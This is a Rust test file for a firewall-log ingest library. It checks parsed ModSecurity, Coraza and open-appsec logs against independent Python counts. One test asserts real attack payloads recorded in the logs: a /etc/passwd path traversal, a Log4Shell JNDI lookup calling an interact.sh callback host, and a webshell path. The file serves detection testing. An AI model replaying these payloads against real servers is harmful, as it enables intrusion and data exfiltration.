//! Real logs of web application firewalls, counted a second time by Python, which shares nothing with the readers.

use super::real::{data, python};
use super::{read_all, records};
use spoor_ingest::{Format, Options, Record, waf};
use spoor_model::request::Action;
use std::collections::{BTreeMap, BTreeSet};

type Tally = BTreeMap<String, u64>;

fn tally(all: &[&Record], of: impl Fn(&Record) -> Vec<String>) -> Tally {
    let mut counts = Tally::new();
    for word in all.iter().flat_map(|record| of(record)) {
        *counts.entry(word).or_default() += 1;
    }
    counts
}

fn counted(path: &str, format: &str, program: &str) {
    let Some(file) = data(path) else { return };
    let (entries, outcome) = read_all(&std::fs::read(&file).unwrap(), &Options::default());
    let summary = outcome.unwrap();
    assert_eq!(summary.format.map(Format::name), Some(format), "{path}");
    assert_eq!(summary.rejected, 0, "{path}");
    let all = records(&entries);
    let blocked = |record: &&&Record| record.attacks.iter().any(|attack| attack.action == Action::Blocked);
    let counted = serde_json::json!({
        "lines": summary.read(),
        "requests": summary.records,
        "first": all.iter().map(|record| record.time).min(),
        "last": all.iter().map(|record| record.time).max(),
        "ips": all.iter().filter_map(|record| record.ip.as_ref()).collect::<BTreeSet<_>>().len(),
        "status": tally(&all, |record| record.status.iter().map(u16::to_string).collect()),
        "methods": tally(&all, |record| record.method.iter().cloned().collect()),
        "rules": tally(&all, |record| {
            // A rule that fires at several places counts once.
            let rules: BTreeSet<_> = record.attacks.iter().filter_map(|attack| attack.rule.clone()).collect();
            rules.into_iter().collect()
        }),
        "blocked": all.iter().filter(blocked).count(),
        "types": tally(&all, |record| {
            let kinds: BTreeSet<_> = record.attacks.iter().map(|attack| attack.kind.clone()).collect();
            kinds.into_iter().collect()
        }),
    });
    let Some(mut expected) = python(&format!("{PRELUDE}\n{program}\n{PRINT}"), &file) else { return };
    let types = expected.as_object_mut().unwrap().remove("types").unwrap();
    for (kind, count) in types.as_object().unwrap() {
        assert_eq!(counted["types"].get(kind), Some(count), "{kind} in {path}");
    }
    for (key, value) in expected.as_object().unwrap() {
        assert_eq!(&counted[key], value, "{key} of {path}");
    }
}

/// `rows` is filled with (milliseconds, ip, method, status, rules, blocked, tags) of each request.
const PRELUDE: &str = r#"
import sys, json, collections, datetime, re
lines = open(sys.argv[1], encoding="utf-8", errors="replace").read().split("\n")
if lines[-1] == "": lines.pop()
utc, rows = datetime.timezone.utc, []
housekeeping = ("900", "901", "905", "949", "959", "980", "999")
def ms(text, form): return int(datetime.datetime.strptime(text, form).replace(tzinfo=utc).timestamp() * 1000)
def bracket(text, key): return re.findall(r'\[%s "([^"]*)"\]' % key, text)
"#;

const PRINT: &str = r#"
words = {"attack-sqli": "sqli", "attack-xss": "xss", "attack-lfi": "path_traversal", "attack-rce": "rce",
  "attack-reputation-scanner": "scanner"}
tally = lambda at: collections.Counter(str(row[at]) for row in rows if row[at] is not None)
rules = collections.Counter(rule for row in rows for rule in set(row[4]) if rule[:3] not in housekeeping)
types = collections.Counter(kind for row in rows for kind in {words[tag] for tag in row[6] if tag in words})
print(json.dumps({"lines": len(lines), "requests": len(rows), "first": min(row[0] for row in rows), "last": max(row[0] for row in rows),
  "ips": len({row[1] for row in rows if row[1]}), "status": tally(3), "methods": tally(2), "rules": rules,
  "blocked": sum(row[5] for row in rows), "types": types}))
"#;

const VERSION_2: &str = r#"
for line in lines:
    o = json.loads(line)
    time = o["transaction"]["time"].replace("--", "-")
    at = round(datetime.datetime.strptime(time, "%d/%b/%Y:%H:%M:%S %z").timestamp() * 1000)
    said = o["audit_data"].get("messages", [])
    rows.append((at, o["transaction"]["remote_address"], o["request"]["request_line"].split(" ")[0], o["response"]["status"],
      [rule for text in said for rule in bracket(text, "id")], o["audit_data"].get("action", {}).get("intercepted", False),
      [tag for text in said if bracket(text, "id")[0][:3] not in housekeeping for tag in bracket(text, "tag")]))
"#;

#[test]
fn real_audit_logs_of_version_2_are_counted_twice() {
    counted("waf/modsecurity2_json_dvwa.jsonl", "modsecurity", VERSION_2);
    counted("waf/modsecurity2_json_usiem.jsonl", "modsecurity", VERSION_2);
}

#[test]
fn a_real_audit_log_of_version_3_is_counted_twice() {
    counted(
        "waf/modsecurity3_json_nginx.jsonl",
        "modsecurity",
        r#"
for line in lines:
    o = json.loads(line)["transaction"]
    details = [message["details"] for message in o["messages"]]
    found = [detail for detail in details if detail["ruleId"][:3] not in housekeeping]
    rows.append((ms(o["time_stamp"], "%a %b %d %H:%M:%S %Y"), o["client_ip"], o["request"]["method"], o["response"]["http_code"],
      [detail["ruleId"] for detail in found], o["response"]["http_code"] == 403 and bool(details),
      [tag for detail in found for tag in detail["tags"]]))
"#,
    );
}

/// Lines of one request share `[unique_id]`.
const ERROR_LOG: &str = r#"
grouped = {}
for line in lines: grouped.setdefault(bracket(line, "unique_id")[0], []).append(line)
for said in grouped.values():
    first = said[0]
    if first.startswith("["):
        at = min(ms(line[1:32], "%a %b %d %H:%M:%S.%f %Y") // 1 for line in said)
        ip, method = re.findall(r"\[client ([^\]]*)\]", first)[-1], None
    else:
        at = ms(first[:19], "%Y/%m/%d %H:%M:%S")
        ip, method = re.search(r", client: ([^,]*)", first).group(1), re.search(r', request: "(\S+)', first).group(1)
    rules = [rule for line in said for rule in bracket(line, "id")]
    stopped = any("Access denied" in line for line in said)
    found = [rule for rule in rules if rule[:3] not in housekeeping]
    # Where only rules that count have spoken, the one that stopped it is what is left.
    if not found and stopped: housekeeping = tuple(family for family in housekeeping if family != "949")
    rows.append((at, ip, method, None, rules, stopped, [tag for line in said for tag in bracket(line, "tag")
      if bracket(line, "id")[0][:3] not in housekeeping]))
"#;

#[test]
fn real_error_logs_are_joined_and_counted_twice() {
    counted("waf/modsecurity_apache_error.log", "error-log", ERROR_LOG);
}

#[test]
fn a_real_error_log_of_nginx_is_joined() {
    let Some(file) = data("waf/modsecurity_nginx_error.log") else { return };
    let (entries, outcome) = read_all(&std::fs::read(&file).unwrap(), &Options::default());
    let summary = outcome.unwrap();
    // By eye: eight alerts of three requests; only the rule that counts speaks of the second.
    assert_eq!((summary.records, summary.joined, summary.rejected, summary.skipped), (3, 5, 0, 0));
    let told: Vec<_> = records(&entries)
        .iter()
        .map(|record| {
            let kinds: BTreeSet<_> = record.attacks.iter().map(|attack| attack.kind.as_str()).collect();
            let blocked = record.attacks.iter().any(|attack| attack.action == Action::Blocked);
            (record.host.as_deref().unwrap(), record.path.as_str(), kinds, blocked)
        })
        .collect();
    assert_eq!(
        told,
        [
            (
                "foobar.com",
                "/?foo=../../../../../../../../etc/passwd",
                BTreeSet::from(["path_traversal", "rce"]),
                false
            ),
            (
                "hostname.domain:443",
                "/?x=${jndi:ldap://${hostName}.c72643ci97rd1ek9i7u0c8rf8iejf6fk6.interact.sh/a}",
                BTreeSet::from(["other"]),
                true
            ),
            ("example.com", "/evil-webshell.txt", BTreeSet::from(["other"]), true),
        ]
    );
}

#[test]
fn a_real_caddy_log_with_coraza_is_joined_and_counted_twice() {
    counted(
        "waf/coraza_caddy.jsonl",
        "caddy",
        r#"
grouped = {}
for line in lines:
    o = json.loads(line)
    ids = bracket(o["msg"], "unique_id")
    grouped.setdefault(ids[0], []).append(o)
for said in grouped.values():
    texts = [text for o in said for text in o["msg"].split("\n") if text]
    found = [text for text in texts if bracket(text, "id")[0][:3] not in housekeeping]
    stopped = any("Access denied" in text for text in texts)
    rows.append((round(min(o["ts"] for o in said) * 1000), re.search(r'\[client "([^"]*)"', texts[0]).group(1), None, None,
      [bracket(text, "id")[0] for text in found], stopped, [tag for text in found for tag in bracket(text, "tag")]))
"#,
    );
}

const EVENTS: &str = r#"
import sys, json
events = [json.loads(line)["eventData"] for line in open(sys.argv[1])]
print(json.dumps({"types": sum(len(e["waapIncidentType"].split(", ")) for e in events), "samples": sorted({e["matchedSample"] for e in events}),
  "blocked": sum(e["securityAction"] == "Prevent" for e in events)}))
"#;

#[test]
fn real_events_of_open_appsec_are_requests_with_their_types() {
    let Some(file) = data("waf/openappsec.jsonl") else { return };
    let (entries, outcome) = read_all(&std::fs::read(&file).unwrap(), &Options::default());
    let summary = outcome.unwrap();
    assert_eq!(
        (summary.format.map(Format::name), summary.records, summary.rejected),
        (Some("open-appsec"), 9, 0)
    );
    let all = records(&entries);
    let Some(expected) = python(EVENTS, &file) else { return };
    let attacks: Vec<_> = all.iter().flat_map(|record| &record.attacks).collect();
    let samples: BTreeSet<_> = attacks.iter().filter_map(|attack| attack.payload.as_deref()).collect();
    let blocked =
        all.iter().filter(|record| record.attacks.iter().all(|attack| attack.action == Action::Blocked));
    let counted = serde_json::json!({"types": attacks.len(), "samples": samples, "blocked": blocked.count()});
    assert_eq!(counted, expected);
    let kinds: BTreeSet<_> = attacks.iter().map(|attack| attack.kind.as_str()).collect();
    for kind in
        ["sqli", "xss", "rce", "path_traversal", "ldapi", "xxe", "scanner", "bad_bot", "rate_limit", "other"]
    {
        assert!(kinds.contains(kind), "{kind} in {kinds:?}");
    }
}

/// The rules that the tests of the Core Rule Set expect are what their folder says, by the number alone.
#[test]
fn rules_of_the_core_rule_set_are_what_their_folder_says() {
    let folders = [
        ("REQUEST-913-SCANNER-DETECTION", &["scanner"][..]),
        ("REQUEST-930-APPLICATION-ATTACK-LFI", &["path_traversal"]),
        ("REQUEST-931-APPLICATION-ATTACK-RFI", &["rfi"]),
        ("REQUEST-932-APPLICATION-ATTACK-RCE", &["rce"]),
        ("REQUEST-933-APPLICATION-ATTACK-PHP", &["rce"]),
        ("REQUEST-921-PROTOCOL-ATTACK", &["crlf", "ldapi", "other"]),
    ];
    for (folder, kinds) in folders {
        let Some(folder) = data(&format!("attacks/coreruleset/{folder}")) else { return };
        let mut rules = 0;
        for file in std::fs::read_dir(&folder).unwrap() {
            let file = file.unwrap().path();
            let rule = file.file_stem().unwrap().to_string_lossy().into_owned();
            if rule.parse::<u32>().is_ok() {
                rules += 1;
                let kind = waf::kind(Some(&rule), &[], &[]);
                assert!(kinds.contains(&kind), "{rule} is {kind}");
            }
        }
        assert!(rules > 0, "{}", folder.display());
    }
}
